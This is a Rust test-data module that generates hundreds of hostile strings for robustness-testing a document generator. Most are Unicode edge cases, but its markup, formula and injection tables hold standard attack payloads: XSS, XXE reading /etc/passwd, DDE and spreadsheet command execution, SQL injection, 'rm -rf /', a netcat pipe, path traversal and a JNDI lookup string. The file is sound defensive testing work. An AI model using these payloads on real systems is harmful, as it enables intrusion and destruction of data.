//! Owns the words that break documents: over 500 of them, made by category from tables,
//! the same on every run. Must not know of letters or outputs.

use std::iter::once;

/// A kind of hostile text, and the texts.
pub struct Category {
    pub name: &'static str,
    pub texts: Vec<String>,
}

/// Every hostile text. `fields` are the names that stand in braces in the letter's file.
pub fn categories(fields: &[&str]) -> Vec<Category> {
    vec![
        category("scripts", scripts()),
        category("combining marks", combining()),
        category("emoji", emoji()),
        category("direction marks", direction_marks()),
        category("unseen characters", unseen()),
        category("control characters", controls()),
        category("line breaks", line_breaks()),
        category("blanks", blanks()),
        category("markup", owned(MARKUP)),
        category("quotes", quotes()),
        category("formulas", formulas()),
        category("braces", braces(fields)),
        category("markers", owned(MARKERS)),
        category("injections", owned(INJECTIONS)),
        category("unusual code points", code_points()),
        category("long words", long_words()),
        category("long paragraphs", long_paragraphs()),
    ]
}

fn category(name: &'static str, texts: Vec<String>) -> Category {
    Category { name, texts }
}

fn owned(texts: &[&str]) -> Vec<String> {
    texts.iter().map(|&text| text.to_owned()).collect()
}

/// A greeting or a name in each script; alone, and inside an English line with numbers,
/// where direction and font change within the line.
fn scripts() -> Vec<String> {
    let both = |word: &&str| {
        [
            (*word).to_owned(),
            format!("Ms {word} (born 1/2/1980), {word}’s flat 3, 14 High St"),
        ]
    };
    SCRIPTS.iter().flat_map(both).collect()
}

const SCRIPTS: &[&str] = &[
    // From the left.
    "Siôn Llŷr ap Rhŷs",
    "Łukasz Żółć",
    "Đặng Thị Ánh",
    "Æsa Þórr ßtraße",
    "İpek Işık",
    "Ọlọ́runfẹ́mi",
    "Αλέξανδρος Παπαδόπουλος",
    "Юлия Щёголева",
    "Ґалаґан Їжак",
    "Գոհար Սարգսյան",
    "ნინო ბერიძე",
    "अनुष्का श्रीवास्तव",
    "ঋতুপর্ণা চট্টোপাধ্যায়",
    "ਗੁਰਪ੍ਰੀਤ ਸਿੰਘ",
    "ગુજરાતી શબ્દ",
    "ଓଡ଼ିଆ ଲିପି",
    "தமிழ்ச்செல்வி",
    "తెలుగు శ్రీ",
    "ಕನ್ನಡ ಕ್ಷ",
    "മലയാളം ക്ഷ്മി",
    "සිංහල ශ්‍රී",
    "ภาษาไทยไม่มีช่องว่าง",
    "ພາສາລາວ",
    "མཁའ་འགྲོ་མ།",
    "မြန်မာဘာသာ",
    "ភាសាខ្មែរ",
    "ᠮᠣᠩᠭᠣᠯ ᠪᠢᠴᠢᠭ",
    "አማርኛ ፊደል",
    "ᏣᎳᎩ ᎦᏬᏂᎯᏍᏗ",
    "ᐃᓄᒃᑎᑐᑦ",
    "ꦲꦏ꧀ꦱꦫꦗꦮ",
    "ᜊᜌ᜔ᜊᜌᜒᜈ᜔",
    "李小龍 張偉",
    "𠮷野家 髙橋 邉",
    "やまだ たろう",
    "ヤマダ・タロウ ﾔﾏﾀﾞ",
    "김철수 박서연",
    "ꡏꡡꡃ ꡢꡡꡙ",
    "ⴰⵎⴰⵣⵉⵖ",
    "ߒߞߏ Latin ߒߞߏ",
    "𐌰𐌱𐌲 Gothic",
    "𝔘𝔫𝔦𝔠𝔬𝔡𝔢 𝒩𝒶𝓂𝑒",
    // From the right.
    "שלום עולם",
    "שָׁלוֹם בְּרֵאשִׁית",
    "محمد عبد الله",
    "مُحَمَّدٌ رَسُولٌ",
    "می‌خواهم ضبط کنم",
    "اردو میں نام ۱۲۳",
    "ئۇيغۇرچە",
    "کوردی سۆرانی",
    "پښتو ژبه",
    "ܣܘܪܝܝܐ",
    "ދިވެހި",
    "𐤀𐤁𐤂 𞤀𞤁𞤂",
    "ﷺ ﷽ ﻻ",
];

fn combining() -> Vec<String> {
    let bases = ["e", "O", "s", "İ", "я", "ア", "1", "*"];
    let marks = ['\u{301}', '\u{308}', '\u{323}', '\u{336}', '\u{20dd}'];
    let single = bases
        .iter()
        .flat_map(|base| marks.map(|mark| format!("Jos{base}{mark} {base}{mark}")));
    // As many marks on one letter as anybody would send, and more.
    let stacks = [3, 10, 50, 300].map(|count| {
        let stack: String = ('\u{300}'..='\u{31a}').cycle().take(count).collect();
        format!("Z{stack}algo")
    });
    let others = [
        "\u{301}leading mark",
        "\u{20d0}\u{20d1}\u{20d2} marks alone",
        "Zoë Zoe\u{308} the same twice",
        "\u{1100}\u{1161}\u{11a8} decomposed \u{ac01}",
        "fi ﬁ ﬃ ligatures",
        "ﬀ ŉ ǰ ΐ ẖ grow in capitals",
        "A\u{30a}ngstro\u{308}m Å Å",
        "क\u{94d}ष\u{93f} ज\u{94d}ञ",
    ];
    single.chain(stacks).chain(owned(&others)).collect()
}

fn emoji() -> Vec<String> {
    let people = ["👍", "🧑", "👩", "🤦", "🧏", "✋"];
    let tones = ["🏻", "🏼", "🏽", "🏾", "🏿"];
    let toned = people
        .iter()
        .flat_map(|person| tones.map(|tone| format!("{person}{tone} ok")));
    let flags = ["GB", "FR", "JP", "PS", "TW", "ZZ"].map(|country| {
        let flag: String = country
            .bytes()
            .filter_map(|letter| char::from_u32(0x1f1e6 + u32::from(letter - b'A')))
            .collect();
        format!("{flag} {flag}{flag}")
    });
    let nations = ["gbwls", "gbsct", "gbeng"].map(|nation| {
        let tags: String = nation
            .bytes()
            .filter_map(|letter| char::from_u32(0xe0000 + u32::from(letter)))
            .collect();
        format!("🏴{tags}\u{e007f} Cymru")
    });
    let keycaps = ['0', '5', '#', '*'].map(|key| format!("{key}\u{fe0f}\u{20e3} key"));
    let joined = [
        "👨‍👩‍👧‍👦 family",
        "👩🏽‍❤️‍💋‍👨🏻 kiss",
        "🏳️‍🌈 🏳️‍⚧️ 🏴‍☠️ flags",
        "🧑🏿‍🦽‍➡️ 👩‍🦯 on the way",
        "☎️ ☎︎ two telephones",
        "❤ ❤️ ❤︎ hearts",
        "half a family 👨‍",
        "a tone alone 🏽, a joiner alone \u{200d} here",
        "🫨🫱🏻‍🫲🏿 new ones",
        "😀😀😀😀😀😀😀😀😀😀",
    ];
    toned
        .chain(flags)
        .chain(nations)
        .chain(keycaps)
        .chain(owned(&joined))
        .collect()
}

/// Marks that turn the text, closed and left open.
fn direction_marks() -> Vec<String> {
    let marks = ('\u{200e}'..='\u{200f}')
        .chain('\u{202a}'..='\u{202e}')
        .chain('\u{2066}'..='\u{2069}')
        .chain(once('\u{61c}'));
    let uses = |mark: char| {
        let end = if mark < '\u{2066}' {
            '\u{202c}'
        } else {
            '\u{2069}'
        };
        [
            format!("abc {mark}def ghi"),
            format!("{mark}abc אבג 123{end} def"),
            format!("אבג{mark} abc{mark}"),
        ]
    };
    let file = "\u{202e}txt.exe and (brackets] \u{202d}abc";
    marks.flat_map(uses).chain(once(file.to_owned())).collect()
}

/// Characters without a shape, inside words, around them, and on their own.
fn unseen() -> Vec<String> {
    let unseen = [
        '\u{ad}',
        '\u{34f}',
        '\u{115f}',
        '\u{1160}',
        '\u{17b4}',
        '\u{17b5}',
        '\u{180b}',
        '\u{180e}',
        '\u{200b}',
        '\u{200c}',
        '\u{200d}',
        '\u{2060}',
        '\u{2061}',
        '\u{2064}',
        '\u{206a}',
        '\u{206f}',
        '\u{2800}',
        '\u{3164}',
        '\u{fe00}',
        '\u{fe0f}',
        '\u{feff}',
        '\u{ffa0}',
        '\u{1d173}',
        '\u{e0001}',
        '\u{e0041}',
        '\u{e0100}',
    ];
    let uses = |letter: char| {
        [
            format!("to{letter}day"),
            format!("{letter}Ann{letter} Lee{letter}"),
        ]
    };
    let alone = "\u{feff}\u{200b}\u{2060}";
    let together: String = unseen.iter().collect();
    unseen
        .into_iter()
        .flat_map(uses)
        .chain([
            alone.to_owned(),
            together,
            "\u{feff}byte order mark first".to_owned(),
        ])
        .chain(unseen.map(|letter| letter.to_string()))
        .collect()
}

/// Whether a character has no shape of its own, as Unicode has it (Default_Ignorable_
/// Code_Point), or a blank one.
pub fn is_unseen(letter: char) -> bool {
    matches!(
        letter,
        '\u{ad}' | '\u{34f}' | '\u{61c}' | '\u{115f}' | '\u{1160}' | '\u{17b4}' | '\u{17b5}'
    ) || matches!(letter, '\u{180b}'..='\u{180f}' | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}')
        || matches!(letter, '\u{2060}'..='\u{206f}' | '\u{2800}' | '\u{3164}' | '\u{fe00}'..='\u{fe0f}')
        || matches!(letter, '\u{feff}' | '\u{ffa0}' | '\u{fff0}'..='\u{fff8}' | '\u{1bca0}'..='\u{1bca3}')
        || matches!(letter, '\u{1d173}'..='\u{1d17a}' | '\u{e0000}'..='\u{e0fff}')
}

/// Whether a character is not shown as it is: what it stands for is.
pub fn stands_for_another(letter: char) -> bool {
    let breaks = BREAKS.iter().any(|it| it.contains(letter)) || letter == '\t';
    letter.is_control() && !breaks
        || u32::from(letter) & 0xfffe == 0xfffe
        || matches!(letter, '\u{ad}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{206f}')
        || matches!(letter, '\u{fdd0}'..='\u{fdef}' | '\u{feff}' | '\u{fff9}'..='\u{fffc}')
}

/// Each control character that is no line break.
fn controls() -> Vec<String> {
    let all = ('\0'..='\u{1f}').chain('\u{7f}'..='\u{9f}');
    let controls = all.filter(|letter| !BREAKS.iter().any(|it| it.contains(*letter)));
    controls
        .map(|letter| format!("A{letter}Z {letter} end{letter}"))
        .collect()
}

pub const BREAKS: &[&str] = &[
    "\n", "\r\n", "\r", "\u{b}", "\u{c}", "\u{85}", "\u{2028}", "\u{2029}",
];

fn line_breaks() -> Vec<String> {
    let uses = |end: &&str| {
        [
            format!("one{end}two"),
            format!("one{end}{end}{end}two"),
            format!("{end}one {end}\t{end} two{end}"),
            // More lines than any address takes.
            (0..12).map(|row| format!("line {row}{end}")).collect(),
        ]
    };
    let mixed = "one\r\r\n\ntwo\n\rthree\u{b}\u{c}four\u{2029}\u{2028}five\u{85}";
    BREAKS
        .iter()
        .flat_map(uses)
        .chain(once(mixed.to_owned()))
        .collect()
}

fn blanks() -> Vec<String> {
    let blanks =
        "\t \u{a0}\u{1680}\u{2002}\u{2003}\u{2006}\u{2007}\u{2009}\u{200a}\u{202f}\u{205f}\u{3000}";
    let runs = |blank: char| {
        let run = blank.to_string().repeat(7);
        [
            format!("two{blank}words"),
            format!("{run}far{run}apart{run}"),
            format!("A{blank} {blank}B"),
        ]
    };
    let huge = format!("far{}away", " ".repeat(5_000));
    blanks
        .chars()
        .flat_map(runs)
        .chain([huge, " ".repeat(40)])
        .collect()
}

const MARKUP: &[&str] = &[
    "<b>bold</b>",
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "</p></main></body></html>",
    "</p><p style=\"font-size:200pt\">large",
    "<p>",
    "<br><br/><br />",
    "</title><title>",
    "</style><style>*{display:none}",
    "</textarea>",
    "<plaintext>",
    "<xmp><listing>",
    "<noscript><iframe src=javascript:alert(1)>",
    "<a href=\"javascript:alert(1)\">link</a>",
    "<table><tr><td>cell",
    "<template><slot>",
    "<!-- comment -->",
    "<!-- -- --> --!> <!-->",
    "<!doctype html>",
    "<? php ?> <?xml version=\"1.0\"?>",
    "]]>",
    "<![CDATA[ text ]]>",
    "]]]]><![CDATA[>",
    "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]>&b;",
    "<!DOCTYPE l [<!ENTITY a \"aaa\"><!ENTITY b \"&a;&a;\">]>&b;",
    "&",
    "&&amp;&amp;amp;",
    "&lt;b&gt; &quot; &apos; &nbsp;",
    "&#60;&#x3c;&#0;&#xd;&#128;&#xffff;&#x110000;",
    "&notin; &notit; &copy &AMP",
    "R&D, M&S & Sons; B&amp",
    "1 < 2 > 0, a<b, <3, >_<",
    "< b >not a tag< /b >",
    "<w:p><w:r><w:t>text</w:t></w:r></w:p>",
    "</w:t></w:r></w:p></w:body></w:document>",
    "<w:br w:type=\"page\"/>",
    "<w:fldSimple w:instr=\" INCLUDEPICTURE http://x \"/>",
    "<mc:AlternateContent>",
    "xml:space=\"preserve\"",
    "{\\rtf1\\ansi\\b bold\\par}",
    "\\par \\u8364? \\'e9 {\\*\\x}",
    "{ DDEAUTO c:\\\\windows\\\\calc.exe }",
    "# Heading",
    "**bold** _italic_ ~~struck~~ `code`",
    "- list\n- list",
    "1. first\n2. second",
    "[link](javascript:alert(1)) ![image](x)",
    "> quoted\n    indented\n```fenced```",
    "| a | b |\n|---|---|",
    "---",
    "\\*escaped\\* \\<b\\>",
    "[[wiki]] {{template}} ''italic''",
    ".TH man 1\n.SH NAME",
    "\\documentclass{a} $x^2$ \\input{/etc/passwd}",
    "%PDF-1.7 endobj",
    "From someone\n.\nQUIT",
    "Content-Type: text/html\r\n\r\n<b>x",
];

fn quotes() -> Vec<String> {
    let pairs = [
        "\"\"", "''", "“”", "‘’", "«»", "„“", "‹›", "「」", "``", "´´", "′″",
    ];
    let uses = |pair: &&str| {
        let (open, close) = (pair.chars().next(), pair.chars().last());
        let [open, close] = [open, close].map(Option::unwrap_or_default);
        [
            format!("She said {open}no{close}."),
            format!("{open}{open}{close}unbalanced{close} O{close}Neill"),
        ]
    };
    let attribute = "x\" onclick=\"alert(1)\" y='z' style='";
    pairs
        .iter()
        .flat_map(uses)
        .chain(once(attribute.to_owned()))
        .collect()
}

fn formulas() -> Vec<String> {
    let starts = ["=", "+", "-", "@", "\t=", "\"=", "|=", "＝"];
    let ends = [
        "1+1",
        "SUM(A1:A9)",
        "HYPERLINK(\"http://x.example\",\"y\")",
        "cmd|' /C calc'!A0",
    ];
    starts
        .iter()
        .flat_map(|start| ends.map(|end| format!("{start}{end}")))
        .collect()
}

/// The names that stand in braces in the letter's file, and in the files that are made.
fn braces(fields: &[&str]) -> Vec<String> {
    let made = [
        "title", "language", "size", "line", "gap", "bold", "to-text", "body", "by", "pack",
        "passage",
    ];
    let names = fields.iter().chain(&made);
    let others = [
        "{",
        "}",
        "{}",
        "{{}}",
        "}{",
        "{{{",
        "{0} {} {:?} {name!r}",
        "${x} #{x} %{x} <%= x %> {% x %}",
        "{ date }",
        "{date",
        "date}",
        "{{date}",
        "{{#each}}{{/each}}",
    ];
    names
        .flat_map(|name| [format!("{{{name}}}"), format!("{{{{{name}}}}} {{{name}")])
        .chain(owned(&others))
        .collect()
}

/// What the released page has where a choice stands. Typed by a user, it is only text.
const MARKERS: &[&str] = &[
    "*",
    "**",
    "***",
    "[x]*",
    "*[Jobcentre Plus/ PDCS*]",
    "[further]",
    "[[x]]",
    "]*[",
    "*delete as appropriate",
    "(delete as appropriate)",
    "Delete As Appropriate*",
    "[INSERT NAME HERE]",
    "<<name>> «name» <name>",
    "intend to/have published",
    "XXXX ____ ....",
    "TBC / TBD / N/A",
    "[Not decided: Opening]",
    "DRAFT",
    "DRAFT: wording not yet checked against current law",
    "Page 2 of 3",
    "None null undefined NaN true [object Object]",
];

const INJECTIONS: &[&str] = &[
    "'; DROP TABLE letters; --",
    "' OR '1'='1",
    "\" OR \"\"=\"",
    "1; EXEC xp_cmdshell('dir')",
    "$(rm -rf /)",
    "`rm -rf /`",
    "; ls | nc x 1 &",
    "&& shutdown /s",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "C:\\aux\\con.txt",
    "file:///etc/passwd",
    "\\\\server\\share",
    "CON PRN AUX NUL COM1",
    "%2e%2e%2f%00%0d%0a",
    "%s%s%s%n %d %x %p",
    "\\n \\r \\t \\0 \\x00 \\u0000 \\u{1F600}",
    "$1 \\1 $& $` $'",
    "${jndi:ldap://x.example/a}",
    "{{7*7}} ${7*7} #{7*7}",
    "*)(uid=*))(|(uid=*",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "http://x.example/?a=1&b=2#c",
    "mailto:a@example.org?cc=b@example.org",
    "a@example.org, \"b c\"@example.org",
    "Bcc: all@example.org",
    "__proto__ constructor toString hasOwnProperty",
    "(a+)+$ ^(.*)*$ [a-z]{1,9999}",
    "-1 0 1e309 0x7f 00 1,000.00 1/0",
    "+44 (0)20 7946 0000 ext. 5",
    "<%= system('id') %>",
];

/// Noncharacters, private use, specials, and what lies beyond the first plane.
fn code_points() -> Vec<String> {
    let nonchars = ['\u{fdd0}', '\u{fdef}', '\u{fffe}', '\u{ffff}'].into_iter();
    let ends = (1..=16)
        .flat_map(|plane| [0xfffe, 0xffff].map(|end| (plane << 16) | end))
        .filter_map(char::from_u32);
    let others = [
        '\u{e000}',
        '\u{f8ff}',
        '\u{f0000}',
        '\u{10fffd}',
        '\u{fff9}',
        '\u{fffa}',
        '\u{fffb}',
        '\u{fffc}',
        '\u{fffd}',
        '\u{d7ff}',
        '\u{10000}',
        '\u{1f600}',
        '\u{1d400}',
        '\u{20000}',
        '\u{2fa1d}',
        '\u{30000}',
        '\u{378}',
        '\u{e01ef}',
        '\u{d7fb}',
    ];
    let uses = |letter| format!("A{letter}Z {letter}");
    nonchars.chain(ends).chain(others).map(uses).collect()
}

fn long_words() -> Vec<String> {
    let letters = ["x", "W", "-", "/", "ä", "字", "ש", "😀", "e\u{301}", "<"];
    letters
        .iter()
        .flat_map(|letter| [80, 1_000].map(|count| letter.repeat(count)))
        .chain(["x", "<", "ש"].map(|letter| letter.repeat(10_000)))
        .collect()
}

/// Ten thousand characters each.
fn long_paragraphs() -> Vec<String> {
    let words = [
        "long ",
        "<b>&amp; ",
        "a. B, ",
        "ארוך ",
        "طويل، ",
        "長い。",
        "😀 ",
        "mixed שלום 123 ",
        "a\n",
    ];
    let length = 10_000;
    words
        .iter()
        .map(|word| word.repeat(length / word.chars().count()))
        .collect()
}
